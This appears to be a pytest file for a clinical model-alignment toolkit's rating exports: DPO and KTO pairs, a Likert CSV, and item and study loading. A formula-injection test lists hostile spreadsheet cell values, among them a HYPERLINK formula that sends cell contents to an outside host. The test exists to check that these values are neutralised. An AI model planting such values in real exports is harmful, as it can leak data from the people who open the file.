"""Exports: majority DPO pairs that `train dpo` reads, and the Likert CSV the study report loads;
items files and the study-folder adapter."""

from __future__ import annotations

import csv
import json
import sqlite3

import pytest
from typer.testing import CliRunner

from clinalign.cli import app as cli_app
from clinalign.cli import run
from clinalign.errors import ConfigError, DataError
from clinalign.rate import db
from clinalign.rate.export import export_likert_csv, export_pairs, load_likert_csv, majority_pairs
from clinalign.rate.items import LikertItem, PairwiseItem, items_from_study, read_items


def _pairs(n):
    return [PairwiseItem(id=f"p{i}", prompt=f"prompt {i}", output_a=f"A{i}", output_b=f"B{i}", system_a="sft",
                         system_b="dpo") for i in range(n)]


def _vote(con, raters, item_ext, choices):
    """Store each rater's canonical choice ('a'/'b'/'tie') for one item directly."""
    item_id = con.execute("SELECT id FROM items WHERE ext_id=?", (item_ext,)).fetchone()[0]
    for r, ch in zip(raters, choices, strict=False):
        db.save_rating(con, r, db.Slot(1, item_id, False), None, ch, "")


@pytest.fixture
def voted(tmp_path):
    con = db.init_db(tmp_path / "r.sqlite")
    db.create_campaign(con, "pairs", "pairwise", _pairs(6))
    raters = [con.execute("SELECT id FROM raters WHERE name=?", (n,)).fetchone()[0]
              for n in ("r1", "r2", "r3") if db.add_rater(con, n)]
    _vote(con, raters, "p0", ["a", "a", "b"])  # majority A
    _vote(con, raters, "p1", ["b", "tie", "b"])  # majority B
    _vote(con, raters, "p2", ["a", "b"])  # split: dropped
    _vote(con, raters, "p3", ["tie", "tie", "a"])  # tie wins: dropped
    _vote(con, raters, "p4", ["b"])  # a single rater is a majority of one
    return con, tmp_path  # p5: unrated, dropped


def test_majority_pairs(voted):
    con, _ = voted
    got = {p["id"]: (p["chosen"], p["rejected"], p["system_chosen"]) for p in majority_pairs(con)}
    assert got == {"p0": ("A0", "B0", "sft"), "p1": ("B1", "A1", "dpo"), "p4": ("B4", "A4", "dpo")}


def test_pairs_file_is_what_train_dpo_reads(voted, tiny_model_dir):
    con, tmp = voted
    out = tmp / "pairs.jsonl"
    assert export_pairs(con, out) == 3
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert all({"prompt", "chosen", "rejected"} <= set(r) for r in rows)
    from clinalign.models.loading import load_tokenizer
    from clinalign.train.data import load_rows, tokenize_rows

    loaded = load_rows("dpo", out)  # the exact reader behind `clinalign train dpo --data`
    assert [(r["prompt"], r["chosen"], r["rejected"]) for r in loaded] == \
        [(r["prompt"], r["chosen"], r["rejected"]) for r in rows]
    tok = tokenize_rows("dpo", loaded, load_tokenizer(tiny_model_dir), max_length=64, truncation="left")
    assert len(tok.examples) == 3 and tok.dropped == 0


def _likert_db(tmp_path):
    con = db.init_db(tmp_path / "l.sqlite")
    items = [LikertItem(id=f"rec{i}", task="discharge_summary", source="note", output=f"summary {s}", system=s)
             for i in range(2) for s in ("base", "dpo")]
    db.create_campaign(con, "likert", "likert", items)
    ids = [con.execute("SELECT id FROM raters WHERE name=?", (n,)).fetchone()[0]
           for n in ("r1", "r2") if db.add_rater(con, n)]
    item = {(r["ext_id"], r["system"]): r["id"] for r in con.execute("SELECT * FROM items")}
    scores = {("rec0", "base"): (2, 3), ("rec0", "dpo"): (5, 4), ("rec1", "dpo"): (4, None)}
    for key, per_rater in scores.items():
        for rid, s in zip(ids, per_rater, strict=True):
            if s is not None:
                db.save_rating(con, rid, db.Slot(1, item[key], False), s, None, "fine, \"quoted\"\nnew line")
    return con


def test_likert_csv_round_trips_to_mean_scores(tmp_path):
    con = _likert_db(tmp_path)
    out = tmp_path / "likert.csv"
    assert export_likert_csv(con, out) == 5
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0])[:5] == ["item_id", "system", "rater", "score", "comment"]
    assert rows[0]["comment"] == "fine, \"quoted\"\nnew line"
    assert load_likert_csv(out) == {("rec0", "base"): 2.5, ("rec0", "dpo"): 4.5, ("rec1", "dpo"): 4.0}


def test_load_likert_csv_errors_name_the_line(tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("item_id,system,rater,score\nr1,dpo,a,4\nr2,dpo,a,7\n")
    with pytest.raises(DataError, match=r"bad.csv:3: score: expected a number from 1 to 5, got '7'"):
        load_likert_csv(bad)
    bad.write_text("item,system,score\n")
    with pytest.raises(DataError, match="missing column"):
        load_likert_csv(bad)


def test_export_cli(tmp_path, voted):
    _, tmp = voted
    r = CliRunner().invoke(cli_app, ["rate", "export", "--db", str(tmp / "r.sqlite"), "--pairs",
                                     str(tmp / "p.jsonl"), "--likert", str(tmp / "l.csv")])
    assert r.exit_code == 0, r.output
    assert "3 DPO pairs" in r.output and "0 Likert ratings" in r.output
    assert run(["rate", "export", "--db", str(tmp / "missing.sqlite"), "--pairs", str(tmp / "x.jsonl")]) == 2
    assert not (tmp / "x.jsonl").exists()


def test_items_file_kinds_and_errors(tmp_path):
    f = tmp_path / "items.jsonl"
    f.write_text('{"id":"r1","source":"n","output":"s","system":"dpo"}\n'
                 '{"id":"r1","source":"n","output":"t","system":"sft"}\n')
    kind, items = read_items(f)
    assert kind == "likert" and [i.system for i in items] == ["dpo", "sft"]
    f.write_text('{"id":"r1","source":"n","output":"s","system":"dpo"}\n\n'
                 '{"id":"r1","source":"n","output":"t","system":"dpo"}\n')
    with pytest.raises(DataError, match=r"items.jsonl:3: id: duplicate \(id, system\)"):
        read_items(f)
    f.write_text('{"id":"p1","prompt":"q","output_a":"x","output_b":"y","system_a":"sft","system_b":"dpo"}\n'
                 '{"id":"p2","prompt":"q","output_a":"x","system_a":"sft","system_b":"dpo"}\n')
    with pytest.raises(DataError, match=r"items.jsonl:2: output_b: missing field"):
        read_items(f)
    assert run(["rate", "create-campaign", "x", "--items", str(f), "--db", str(tmp_path / "d.sqlite")]) == 2


def _study(tmp_path):
    """A hand-made study folder in the runner's layout (predictions/<task>/<system>.jsonl, data/<task>/test)."""
    root = tmp_path / "study"
    (root / "data" / "discharge_summary").mkdir(parents=True)
    (root / "predictions" / "discharge_summary").mkdir(parents=True)
    recs = [{"id": f"d{i}", "note": f"Admitted for CHF #{i}.", "summary": "CHF",
             "facts": [{"kind": "diagnosis", "text": "heart failure"}]} for i in range(3)]
    (root / "data" / "discharge_summary" / "test.jsonl").write_text("".join(json.dumps(r) + "\n" for r in recs))
    for system in ("base", "sft", "dpo"):
        rows = [{"id": f"d{i}", "gold": "CHF", "pred": f"{system} summary {i}", "text": f"{system} summary {i}"}
                for i in range(3) if not (system == "base" and i == 2)]  # base missed d2
        (root / "predictions" / "discharge_summary" / f"{system}.jsonl").write_text(
            "".join(json.dumps(r) + "\n" for r in rows))
    return root


def test_items_from_study(tmp_path):
    root = _study(tmp_path)
    likert = items_from_study(root, "likert")
    assert len(likert) == 6  # d0, d1 x 3 systems; d2 lacks a base output
    assert {(i.id, i.system) for i in likert} == {(f"d{i}", s) for i in range(2) for s in ("base", "dpo", "sft")}
    assert next(i for i in likert if i.id == "d1" and i.system == "dpo").source == "Admitted for CHF #1."
    pairs = items_from_study(root, "pairwise")
    assert [(p.id, p.system_a, p.system_b, p.output_a) for p in pairs] == \
        [(f"d{i}", "sft", "dpo", f"sft summary {i}") for i in range(3)]
    assert all("Admitted for CHF" in p.prompt for p in pairs)
    with pytest.raises(ConfigError, match="exactly two systems"):
        items_from_study(root, "pairwise", systems=["base", "sft", "dpo"])
    with pytest.raises(ConfigError, match="no predictions"):
        items_from_study(root, "likert", systems=["gpt"])
    with pytest.raises(ConfigError, match="not a study folder"):
        items_from_study(tmp_path, "likert")
    db_path = tmp_path / "s.sqlite"
    assert run(["rate", "create-campaign", "study pairs", "--study", str(root), "--kind", "pairwise",
                "--systems", "base,dpo", "--db", str(db_path)]) == 0
    assert db.connect(db_path).execute("SELECT COUNT(*) FROM items").fetchone()[0] == 2


def test_pairwise_study_items_show_the_task_prompt_or_fail_naming_the_record(tmp_path, capsys):
    from clinalign.errors import TaskError
    from clinalign.tasks import get_task

    root = _study(tmp_path)
    task = get_task("discharge_summary")
    test_file = root / "data" / "discharge_summary" / "test.jsonl"
    first = json.loads(test_file.read_text().splitlines()[0])
    assert items_from_study(root, "pairwise")[0].prompt == task.prompt(task.record_type.model_validate(first))
    with pytest.raises(TaskError, match="unknown task 'my_notes'"):
        items_from_study(root, "pairwise", task="my_notes")
    lines = test_file.read_text().splitlines()
    test_file.write_text("\n".join([lines[0], json.dumps({**json.loads(lines[1]), "facts": []}), lines[2]]) + "\n")
    with pytest.raises(DataError) as e:  # not the note standing in for a prompt the models never saw
        items_from_study(root, "pairwise")
    assert e.value.problems == [f"{test_file}: record 'd1': facts: Value error, needs at least one key fact"]
    assert len(items_from_study(root, "likert")) == 6  # Likert items show the note: no prompt needed
    dbf = tmp_path / "p.sqlite"
    assert run(["rate", "create-campaign", "p", "--study", str(root), "--kind", "pairwise", "--db", str(dbf)]) == 2
    assert capsys.readouterr().err.startswith(f"error: {test_file}: record 'd1': facts: ")
    assert not dbf.exists()


# ---- issue #15: defect 1 (formula injection) and 5 (malformed data) -----------------------------------

FORMULAS = ['=HYPERLINK("http://x/?"&B2,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rcmd", "'=already"]


def test_likert_csv_cells_cannot_run_as_formulas(tmp_path):
    from clinalign.rate.export import plain_cell, safe_cell

    con = db.init_db(tmp_path / "f.sqlite")
    db.create_campaign(con, "likert", "likert", [LikertItem(id="-5", source="n", output="s", system="=sys")])
    item_id = con.execute("SELECT id FROM items").fetchone()[0]
    db.add_rater(con, "=evil()")
    rid = con.execute("SELECT id FROM raters WHERE name='=evil()'").fetchone()[0]
    others = [db.add_rater(con, f"r{i}") and con.execute("SELECT id FROM raters WHERE name=?", (f"r{i}",)).fetchone()[0]
              for i in range(len(FORMULAS))]
    db.save_rating(con, rid, db.Slot(1, item_id, False), 2, None, "nul\x00byte")
    for r, comment in zip(others, FORMULAS, strict=True):
        db.save_rating(con, r, db.Slot(1, item_id, False), 4, None, comment)
    out = tmp_path / "likert.csv"
    assert export_likert_csv(con, out) == 8
    raw = out.read_bytes()
    assert b"\x00" not in raw
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    comments = {r["rater"]: r["comment"] for r in rows}
    assert comments["'=evil()"] == "nulbyte"
    assert [comments[f"r{i}"] for i in range(len(FORMULAS))] == ["'" + c for c in FORMULAS]
    for row in rows:
        for k in ("item_id", "system", "rater", "comment", "task", "campaign"):
            assert not row[k].startswith(("=", "+", "-", "@", "\t", "\r")), (k, row[k])
    assert (rows[0]["item_id"], rows[0]["system"]) == ("'-5", "'=sys")
    assert load_likert_csv(out) == {("-5", "=sys"): pytest.approx((2 + 4 * 7) / 8)}  # read back as written
    for v in [*FORMULAS, "plain", "'quoted", "''=x", ""]:
        assert plain_cell(safe_cell(v)) == v


@pytest.mark.parametrize("column,value,needle", [
    ("payload", "not json {", "payload: not JSON"),
    ("payload", "[1, 2]", "payload: expected a JSON object, got list"),
    ("payload", '{"id": "p0", "output_a": "A", "output_b": "B", "system_a": "s", "system_b": "d"}',
     "payload: prompt: field required"),
])
def test_export_of_a_damaged_item_row_is_one_clear_line(voted, capsys, column, value, needle):
    con, tmp = voted
    item_id = con.execute("SELECT id FROM items WHERE ext_id='p0'").fetchone()[0]
    con.execute(f"UPDATE items SET {column} = ? WHERE id = ?", (value, item_id))
    out = tmp / "p.jsonl"
    assert run(["rate", "export", "--db", str(tmp / "r.sqlite"), "--pairs", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"r.sqlite: items row {item_id}: {needle}" in err, err
    assert "Traceback" not in err and not out.exists()


def test_export_of_a_text_updated_at_is_one_clear_line(tmp_path, capsys):
    con = _likert_db(tmp_path)
    rid = con.execute("SELECT id FROM ratings ORDER BY id LIMIT 1").fetchone()[0]
    con.execute("UPDATE ratings SET updated_at = 'yesterday' WHERE id = ?", (rid,))
    assert run(["rate", "export", "--db", str(tmp_path / "l.sqlite"), "--likert", str(tmp_path / "l.csv")]) == 2
    err = capsys.readouterr().err
    assert f"ratings row {rid}: updated_at: expected a number" in err and err.count("\n") == 1


def test_export_paths_and_database_files_are_checked(tmp_path, voted, capsys):
    _, tmp = voted
    dbp = str(tmp / "r.sqlite")
    (tmp / "adir").mkdir()
    cases = [
        (["--db", dbp, "--likert", str(tmp / "adir")], "adir: is a directory; give a file name"),
        (["--db", dbp, "--pairs", str(tmp / "nowhere" / "p.jsonl")], "folder " + str(tmp / "nowhere") + " does not exist"),
    ]
    empty = tmp / "empty.sqlite"
    empty.write_bytes(b"")
    other = tmp / "other.sqlite"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.commit()
    cases += [(["--db", str(empty), "--pairs", str(tmp / "p.jsonl")], "empty.sqlite: empty file, not a ratings database"),
              (["--db", str(other), "--pairs", str(tmp / "p.jsonl")], "other.sqlite: not a ratings database (no "),
              (["--db", str(tmp / "adir"), "--pairs", str(tmp / "p.jsonl")], "adir: is a directory, not a ratings")]
    for args, needle in cases:
        assert run(["rate", "export", *args]) == 2, args
        err = capsys.readouterr().err
        assert needle in err and err.count("\n") == 1, err
    assert not (tmp / "nowhere").exists() and empty.stat().st_size == 0
    assert not (tmp / "p.jsonl").exists()
    assert {r[0] for r in sqlite3.connect(other).execute("SELECT name FROM sqlite_master")} == {"t"}


def test_rate_commands_that_create_a_database_refuse_bad_paths(tmp_path, capsys):
    empty = tmp_path / "empty.sqlite"
    empty.write_bytes(b"")
    for db_arg, needle in ((empty, "empty file, not a ratings database"),
                           (tmp_path / "no" / "r.sqlite", f"folder {tmp_path / 'no'} does not exist"),
                           (tmp_path, "is a directory")):
        assert run(["rate", "add-rater", "x", "--db", str(db_arg)]) == 2
        err = capsys.readouterr().err
        assert needle in err and err.count("\n") == 1, err
    assert empty.stat().st_size == 0 and not (tmp_path / "no").exists()
    assert run(["rate", "add-rater", "x", "--db", str(tmp_path / "new.sqlite")]) == 0  # a new file is fine


def test_kto_export_is_what_train_dpo_loss_kto_reads(voted):
    from clinalign.rate.export import export_kto
    from clinalign.train.data import load_kto_rows

    con, tmp = voted
    out = tmp / "kto.jsonl"
    assert export_kto(con, out) == 6  # 3 majority picks, a desirable and an undesirable row each
    rows = load_kto_rows(out)
    assert [(r["completion"], r["label"]) for r in rows] == [
        ("A0", True), ("B0", False), ("B1", True), ("A1", False), ("B4", True), ("A4", False)]
    assert all(r["prompt"] == f"prompt {r['completion'][1]}" for r in rows)


def test_campaign_from_on_policy_samples(tmp_path):
    from clinalign.rate.items import items_from_samples

    pairs = tmp_path / "pairs.jsonl"
    pairs.write_text("".join(json.dumps({"id": f"r{i}:on_policy", "prompt": f"P{i}", "chosen": f"best {i}",
                                         "rejected": f"worst {i}", "provenance": {"model": "abc"}}) + "\n"
                             for i in range(3)))
    items = items_from_samples(pairs)
    assert [(i.id, i.prompt, i.output_a, i.output_b, i.system_a) for i in items] == [
        (f"r{i}:on_policy", f"P{i}", f"best {i}", f"worst {i}", "judge_best") for i in range(3)]
    dbf = tmp_path / "d.sqlite"
    assert run(["rate", "create-campaign", "round 1", "--from-samples", str(pairs), "--db", str(dbf)]) == 0
    con = db.open_db(dbf)
    assert con.execute("SELECT count(*) FROM items").fetchone()[0] == 3
    assert run(["rate", "create-campaign", "x", "--from-samples", str(pairs), "--items", str(pairs),
                "--db", str(dbf)]) == 2
    bad = tmp_path / "bad.jsonl"
    bad.write_text(json.dumps({"prompt": "P", "chosen": "a"}) + "\n")
    with pytest.raises(DataError, match="bad.jsonl:1: a pair needs"):
        items_from_samples(bad)


def test_export_with_nothing_rated_writes_no_file_and_exits_1(tmp_path, capsys):
    dbf = tmp_path / "r.sqlite"
    con = db.init_db(dbf)
    db.create_campaign(con, "round 1", "pairwise", _pairs(3))
    db.add_rater(con, "r1", campaigns=["round 1"])
    db.add_rater(con, "r2", campaigns=["round 1"])
    outs = ["--pairs", str(tmp_path / "picks.jsonl"), "--kto", str(tmp_path / "picks-kto.jsonl")]
    assert run(["rate", "export", "--db", str(dbf), *outs]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"error: nobody has rated in {dbf} yet, so there is nothing to export and no file was "
                          "written") and err.count("\n") == 1, err
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("r.sqlite")) == []
    # rated, but only ties and a split vote: still no pair, said so, still nothing written
    raters = [con.execute("SELECT id FROM raters WHERE name=?", (n,)).fetchone()[0] for n in ("r1", "r2")]
    _vote(con, raters, "p0", ["tie", "tie"])
    _vote(con, raters, "p1", ["a", "b"])
    assert run(["rate", "export", "--db", str(dbf), *outs]) == 1
    err = capsys.readouterr().err
    assert err == (f"error: {tmp_path / 'picks.jsonl'}, {tmp_path / 'picks-kto.jsonl'}: not written: no pairwise "
                   "item has a majority pick yet (ties and split votes give no pair) (4 rating(s) of 2 item(s))\n")
    assert not (tmp_path / "picks.jsonl").exists() and not (tmp_path / "picks-kto.jsonl").exists()
    # a majority on one item: both files, with what there is
    _vote(con, raters[:1], "p2", ["b"])
    assert run(["rate", "export", "--db", str(dbf), *outs]) == 0
    assert "1 DPO pairs" in capsys.readouterr().out
    assert len((tmp_path / "picks-kto.jsonl").read_text().splitlines()) == 2


def test_export_writes_the_files_that_have_rows_and_names_the_ones_left_out(tmp_path, capsys):
    dbf = tmp_path / "r.sqlite"
    con = db.init_db(dbf)
    db.create_campaign(con, "notes", "likert", [LikertItem(id="n1", source="note", output="summary", system="sft")])
    db.add_rater(con, "r1", campaigns=["notes"])
    db.save_rating(con, 1, db.Slot(1, 1, False), 4, None, "")
    likert, pairs = tmp_path / "likert.csv", tmp_path / "pairs.jsonl"
    assert run(["rate", "export", "--db", str(dbf), "--likert", str(likert), "--pairs", str(pairs)]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out == [f"1 Likert ratings -> {likert}",
                   f"0 DPO pairs: {pairs}: not written: no pairwise ratings in {dbf} (its 1 rating(s) are of the "
                   "other kind)"]
    assert len(load_likert_csv(likert)) == 1 and not pairs.exists()
